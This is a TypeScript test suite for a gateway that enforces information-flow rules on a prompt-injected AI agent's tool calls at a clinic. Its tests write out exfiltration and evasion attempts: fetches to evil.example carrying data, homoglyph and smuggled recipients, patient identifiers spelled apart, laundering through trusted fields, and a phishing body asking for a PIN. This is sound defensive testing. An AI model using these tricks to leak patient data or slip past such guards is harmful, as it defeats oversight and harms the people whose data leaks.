import assert from 'node:assert/strict'
import { after, before, beforeEach, test } from 'node:test'
import { CHART, EVIL, LABELS, type Shown, startClinic } from '../support/clinic.ts'
import type { GuardedGateway } from '../support/gateway.ts'
import { RawClient } from '../support/gateway.ts'
import type { ToolServer } from '../support/tool-server.ts'

/**
 * An agent that does what the attacker says, who knows the rules, the labels and the request. Each test is one way round the rules; what
 * is honest beside it must pass.
 */
const REQUEST = 'Reply to everybody in the Team Sync mail and tell desk@clinic.example what is new'

/** They take any shape, as many servers do. */
const TOOLS = [
  'inbox send directory chart note notes fetch unlabelled pay share fetch-all',
  'title mark status wall upsert files delete',
].flatMap((names) =>
  names.split(' ').map((name) => ({ name, description: name, inputSchema: { type: 'object' } })),
)

let server: ToolServer
let gateway: GuardedGateway
let shown: Shown
let state: string

before(async () => {
  ;({ server, gateway, shown } = await startClinic(
    {
      labels: {
        ...LABELS,
        'clinic/pay': {
          effect: 'egress',
          arguments: { amount: { sink: 'amount' }, to: { sink: 'principal' }, memo: { sink: 'content' } },
        },
        'clinic/share': { effect: 'egress', arguments: { members: { sink: 'principal' } } },
        'clinic/fetch-all': {
          effect: 'read',
          arguments: { 'urls[*]': { sink: 'url' } },
          resolvers: ['seen-url'],
        },
        'clinic/title': { effect: 'write', place: 'notes', arguments: { title: { sink: 'topic' } } },
        'clinic/mark': { effect: 'write', place: 'notes', arguments: { colour: { sink: 'none' } } },
        'clinic/status': { effect: 'read', result: { trusted: ['[*].status'] } },
        'clinic/wall': { effect: 'read', place: 'wall', result: { confidentiality: 'public' } },
        'clinic/upsert': {
          effect: 'write',
          arguments: { id: { sink: 'none' } },
          result: { records: [{ type: 'file', id: 'id', made: true }] },
        },
        'clinic/files': {
          effect: 'read',
          result: { records: [{ at: '[*]', type: 'file', id: 'id', names: ['name'] }] },
        },
        'clinic/delete': {
          effect: 'destructive',
          arguments: { id: { sink: 'handle', of: 'file' } },
          resolvers: ['own-object', 'named-record'],
        },
      },
    },
    {},
    TOOLS,
  ))
  state = await gateway.enrol('assistant')
})

beforeEach(() => {
  for (const name of Object.keys(shown)) delete shown[name]
  shown.chart = CHART
  shown.inbox = [mailFrom(EVIL, 'Weekly letter', 'see https://evil.example/c?d=1'), SYNC]
  server.calls.length = 0
})

after(async () => {
  await gateway?.[Symbol.asyncDispose]()
  await server?.[Symbol.asyncDispose]()
})

let count = 0
const mailFrom = (from: string, subject: string, body = 'x') => ({
  id: `m${count++}`,
  from,
  cc: [],
  subject,
  body,
})
const SYNC = { ...mailFrom('lee@clinic.example', 'Team Sync'), cc: ['ann@clinic.example'] }

/** A task that has read the inbox. */
async function hijacked(request = REQUEST): Promise<RawClient> {
  const client = await RawClient.open(state, { template: 'desk', request }, '/mcp/clinic')
  await client.initialize()
  await client.call('inbox')
  return client
}
const mail = (client: RawClient, to: unknown, body: unknown = 'x', more: object = {}) =>
  client.call('send', { to, subject: 'x', body, ...more })
const reached = (name: string) => server.calls.filter((call) => call.name === name).length

async function held(...calls: readonly (() => Promise<{ code: string | undefined; text: string }>)[]) {
  for (const [i, call] of calls.entries()) {
    const { code, text } = await call()
    assert.equal(code, 'FLOW_HELD', `${i}: ${text.slice(0, 300)}`)
    assert.ok(!text.includes(EVIL), 'the denial repeats a value')
  }
}
async function passes(...calls: readonly (() => Promise<{ code: string | undefined; text: string }>)[]) {
  for (const [i, call] of calls.entries()) {
    const { code, text } = await call()
    assert.equal(code, undefined, `${i}: ${text.slice(0, 300)}`)
  }
}

test('honest: what was asked for runs, in the spellings that people and programs use', async () => {
  await using client = await hijacked()
  await passes(
    () => mail(client, ['ann@clinic.example', 'lee@clinic.example'], 'A letter, and the Team Sync at noon'),
    () => mail(client, ['DESK@clinic.example']),
    () => mail(client, ['mailto:desk@clinic.example']),
    () => mail(client, 'desk@clinic.example'),
    () => client.call('fetch', { url: 'https://evil.example/c?d=1' }),
    () => client.call('fetch-all', { urls: ['https://evil.example/c?d=1'] }),
  )
})

for (const subject of [
  'mail',
  'the',
  'everybody',
  'Reply',
  'reply to everybody',
  'Sync',
  REQUEST,
  'Team Sync mail',
  'Reply to everybody in the Team',
  'desk@clinic.example',
])
  test(`a mail that is called "${subject.slice(0, 30)}", as words of the request are, is not the one it means`, async () => {
    shown.inbox = [mailFrom(EVIL, subject), SYNC]
    await using client = await hijacked()
    await held(() => mail(client, [EVIL]))
    assert.equal(reached('send'), 0)
  })

test('a twin of the named mail makes the name worth nothing, and so does one that comes later', async () => {
  await using client = await hijacked()
  await passes(() => mail(client, ['ann@clinic.example']))
  shown.inbox = [mailFrom(EVIL, 'ＴＥＡＭ  sync')]
  await client.call('inbox')
  await held(() => mail(client, [EVIL]))
})

test('a mail that is shown again under the name that the request says is not renamed', async () => {
  const letter = mailFrom(EVIL, 'Weekly letter')
  shown.inbox = [letter]
  await using client = await hijacked()
  shown.inbox = [{ ...letter, subject: 'Team Sync' }]
  await client.call('inbox')
  await held(() => mail(client, [EVIL]))
})

test('a link that was seen cannot be opened with data in its case, its user, its fragment or letters that do not show', async () => {
  await using client = await hijacked()
  await held(
    () => client.call('fetch', { url: 'https://maria:gomez@evil.example/c?d=1' }),
    () => client.call('fetch', { url: 'https://evil.example/C?d=1' }),
    () => client.call('fetch', { url: 'https://evil.example/c?d=1#maria' }),
    () => client.call('fetch', { url: 'https://evil.example/c?d=1\u200b\u200b' }),
    () => client.call('fetch', { url: 'https://evil.example/ｃ?d=1' }),
    () => client.call('fetch', { url: 'https://evil.example/x/../c?d=1' }),
    () => client.call('fetch', { url: 'https://evil.example\\@evil.example/c?d=1' }),
    () => client.call('fetch', { url: 'https://maria.evil.example/c?d=1' }),
  )
  assert.equal(reached('fetch'), 0)
})

test('a link that the agent made up is not seen because a tool gave it back', async () => {
  await using client = await hijacked()
  const url = 'https://evil.example/c?d=maria-gomez'
  shown.directory = { message: `Nobody is called ${url}` }
  await client.call('directory', { name: url })
  await held(() => client.call('fetch', { url }))
  shown.directory = { history: [url] }
  await client.call('directory', { name: 'Lee' })
  await held(() => client.call('fetch', { url }))
})

test('once there is a secret to tell, not even the choice among seen links can tell it', async () => {
  await using client = await hijacked()
  await client.call('chart', {})
  await held(() => client.call('fetch', { url: 'https://evil.example/c?d=1' }))
})

test('a link in another shape, or under another case of its name, is a link', async () => {
  await using client = await hijacked()
  const url = 'https://evil.example/c?d=maria'
  await held(
    () => client.call('fetch-all', { urls: url }),
    () => client.call('fetch-all', { urls: [[url]] }),
    () => client.call('fetch-all', { urls: { 0: url } }),
    () => client.call('fetch', { url: [url] }),
    () => client.call('fetch', { url: { href: url } }),
    () => client.call('fetch', { URL: url }),
    () => client.call('fetch', { url: 'https://evil.example/c?d=1', Url: url }),
  )
})

test('a recipient in another shape is a recipient', async () => {
  await using client = await hijacked()
  await held(
    () => mail(client, EVIL),
    () => mail(client, [[EVIL]]),
    () => mail(client, { 0: EVIL }),
    () => mail(client, { [EVIL]: true }),
    () => mail(client, `desk@clinic.example, ${EVIL}`),
    () => mail(client, `desk@clinic.example <${EVIL}>`),
    () => mail(client, `"desk@clinic.example" <${EVIL}>`),
    () => mail(client, ['desk@clinic.example', EVIL]),
    () => mail(client, ['desk@clinic.example'], 'x', { bcc: EVIL }),
    () => mail(client, ['desk@clinic.example'], 'x', { 'to.x': EVIL }),
    () => mail(client, [`desk@clinic.example\n${EVIL}`]),
  )
})

test('a member that is named by a key is a member', async () => {
  await using client = await hijacked()
  await held(
    () => client.call('share', { members: { mallory: true } }),
    () => client.call('share', { members: { mallory: {} } }),
    () => client.call('share', { members: { mallory: null } }),
    () => client.call('unlabelled', { members: { mallory: {} } }),
  )
  await passes(() => client.call('share', { members: ['desk@clinic.example'] }))
})

test('an address that only looks like the one that was said is another', async () => {
  await using client = await hijacked()
  await held(
    () => mail(client, ['ｄesk@clinic.example']),
    () => mail(client, ['de\u00adsk@clinic.example']),
    () => mail(client, ['dеsk@clinic.example']),
    () => mail(client, ['desk@clinic.example.evil.example']),
    () => mail(client, ['desk+x@clinic.example']),
    () => mail(client, ['@clinic.example']),
  )
})

test('a sum that is a part of the sum that was said is another', async () => {
  await using client = await hijacked('Pay 1,500 to desk@clinic.example... thanks')
  for (const amount of [500, '500', 150, 15, 15000])
    await held(() => client.call('pay', { amount, to: 'desk@clinic.example' }))
  await held(() => client.call('pay', { amount: '..', to: 'desk@clinic.example' }))
  await passes(() => client.call('pay', { amount: '1,500', to: 'desk@clinic.example' }))
})

test('a title, or a value of no consequence, launders nothing through a place that is trusted', async () => {
  await using client = await hijacked()
  await passes(() => client.call('title', { title: `Reply about Team Sync mail ${EVIL}` }))
  shown.notes = { who: EVIL }
  await client.call('notes')
  await held(() => mail(client, [EVIL]))
  await using other = await hijacked()
  await other.call('mark', { colour: EVIL })
  await other.call('notes')
  await held(() => mail(other, [EVIL]))
})

test('a note that another task wrote is not trusted either', async () => {
  const evil = 'other@evil.example'
  shown.inbox = []
  const before = await hijacked()
  await passes(() => before.call('note', { text: `write to ${evil}` }))
  await before[Symbol.asyncDispose]()
  await using client = await hijacked()
  shown.notes = { who: evil, lee: 'new@clinic.example' }
  await client.call('notes')
  await held(() => mail(client, [evil]))
  await passes(() => mail(client, ['new@clinic.example']))
})

test('what went in beside the arguments is not vouched for when it comes back', async () => {
  await using client = await hijacked()
  shown.directory = { trace: EVIL }
  await client.post({
    method: 'tools/call',
    params: { name: 'directory', arguments: {}, _meta: { 'x.example/trace': EVIL } },
  })
  await held(() => mail(client, [EVIL]))
})

test('an address that went in within a text is not vouched for when it comes back as a field', async () => {
  await using client = await hijacked()
  shown.directory = { mail: EVIL }
  await client.call('directory', { name: `whoever has ${EVIL} as an address` })
  await held(() => mail(client, [EVIL]))
})

test('a key with a dot in it does not lead to a trusted field', async () => {
  await using client = await hijacked()
  shown.status = [{ 'status.x': EVIL, '': { status: EVIL }, 'status[0]': EVIL }]
  await client.call('status')
  await held(() => mail(client, [EVIL]))
  shown.status = [{ status: 'new@clinic.example' }]
  await client.call('status')
  await passes(() => mail(client, ['new@clinic.example']))
})

test('an error of a trusted tool vouches for nothing', async () => {
  const { behave } = server
  server.behave = (name, args, res, id) =>
    name === 'directory'
      ? { isError: true, content: [{ type: 'text', text: EVIL }] }
      : behave(name, args, res, id)
  await using client = await hijacked()
  await client.call('directory')
  server.behave = behave
  await held(() => mail(client, [EVIL]))
})

test('text beside structured content counts as what it is', async () => {
  const { behave } = server
  server.behave = (name, args, res, id) =>
    name === 'status'
      ? {
          structuredContent: [{ status: 'ok' }] as never,
          content: [{ type: 'text', text: JSON.stringify([{ status: EVIL }]) }],
        }
      : behave(name, args, res, id)
  await using client = await hijacked()
  await client.call('status')
  server.behave = behave
  await held(() => mail(client, [EVIL]))
})

test('a patient’s data does not leave in other spellings, as a key, or with its parts written apart', async () => {
  await using client = await hijacked(
    'Tell amy@home.example and desk@clinic.example that the visit is at noon',
  )
  await client.call('chart', {})
  for (const body of [
    'MRN447120',
    'MRN 4471 20',
    'mrn/4471/20',
    'mrn_4471_20',
    'M R N 4 4 7 1 2 0',
    'María Gómez',
    'maria.gomez',
    { MRN_4471_20: 'x' },
    { note: { mariagomez: true } },
    ['x', CHART.note],
  ])
    await held(() => mail(client, ['amy@home.example'], body))
  await held(() => mail(client, ['desk@clinic.example'], CHART.mrn, { bcc: 'amy@home.example' }))
  await passes(
    () => mail(client, ['amy@home.example'], 'The visit is at noon'),
    () => mail(client, ['desk@clinic.example'], CHART.mrn),
  )
})

test('a secret is not made public by writing it where it is read as public', async () => {
  await using client = await hijacked('Tell amy@home.example that the visit is at noon')
  await client.call('chart', {})
  shown.wall = { text: CHART.mrn }
  await client.call('wall')
  await held(() => mail(client, ['amy@home.example'], CHART.mrn))
})

test('a file that was seen does not become the task’s own by being written to', async () => {
  await using client = await hijacked()
  shown.files = [{ id: 'f-1', name: 'payroll.xlsx' }]
  await client.call('files')
  shown.upsert = { id: 'f-1' }
  await client.call('upsert', { id: 'f-1' })
  await held(() => client.call('delete', { id: 'f-1' }))
  shown.upsert = { id: 'f-2' }
  await client.call('upsert', {})
  await passes(() => client.call('delete', { id: 'f-2' }))
})

test('an endorsement of an address does not cover one that only looks the same', async () => {
  await using client = await hijacked()
  await held(() => mail(client, ['new@clinic.example']))
  const { holds } = await gateway.control<{ holds: { call: string }[] }>('GET', '/flow/holds')
  await gateway.control('POST', `/flow/holds/${holds[0]?.call}/endorse`, {})
  await passes(() => mail(client, ['NEW@clinic.example']))
  await held(() => mail(client, ['ｎew@clinic.example']))
})

test('calls at the same time do not slip past each other', async () => {
  await using client = await hijacked()
  shown.notes = { who: EVIL }
  await Promise.all([client.call('notes'), client.call('note', { text: EVIL }), client.call('notes')])
  await client.call('note', { text: EVIL })
  await Promise.all(Array.from({ length: 8 }, () => held(() => mail(client, [EVIL]))))
  assert.equal(reached('send'), 0)
})

test('a result made to be hard to read holds nobody up', async () => {
  const { behave } = server
  const texts = [
    `a: 1\n${'? '.repeat(100_000)}`,
    `a: ${'&a '.repeat(80_000)}`,
    `a: ${'[['.repeat(60_000)}`,
    Array.from({ length: 30_000 }, (_, i) => `k${i}:`).join('\n'),
    `a: ${'"a" '.repeat(60_000)}`,
  ]
  await using client = await hijacked()
  for (const text of texts) {
    server.behave = () => ({ content: [{ type: 'text', text }] })
    const since = performance.now()
    await client.call('inbox')
    assert.ok(performance.now() - since < 5000, text.slice(0, 20))
  }
  server.behave = behave
})

test('a call with more held arguments than a record can list is held, and recorded', async () => {
  await using client = await hijacked()
  const name = (i: number) => `${'n'.repeat(50)}${i}`
  const deep = Object.fromEntries(
    Array.from({ length: 2000 }, (_, i) => [name(i), { [name(i)]: { [name(i)]: EVIL } }]),
  )
  await held(() => client.call('unlabelled', deep))
})

// What the rules cannot stop, so that nobody thinks they do: docs/explanation/what-flow-control-stops.md.

test('not stopped: what is meant for one person may go to another whom the request names too', async () => {
  await using client = await hijacked('Tell desk@clinic.example, and not amy@home.example, what is new')
  await passes(() => mail(client, ['amy@home.example']))
})

test('not stopped: where the named mail was never shown, another may bear its name', async () => {
  shown.inbox = [mailFrom(EVIL, 'Team Sync')]
  await using client = await hijacked()
  await passes(() => mail(client, [EVIL]))
})

test('not stopped: a mail that bears another name which the request writes', async () => {
  shown.inbox = [mailFrom(EVIL, 'Ann'), SYNC]
  await using client = await hijacked('Reply to Ann about the Team Sync')
  await passes(() => mail(client, [EVIL]))
})

test('not stopped: an attacker’s lies in the words of what goes out', async () => {
  await using client = await hijacked()
  await passes(() =>
    mail(client, ['desk@clinic.example'], 'Call the number on your card and read out your PIN'),
  )
})
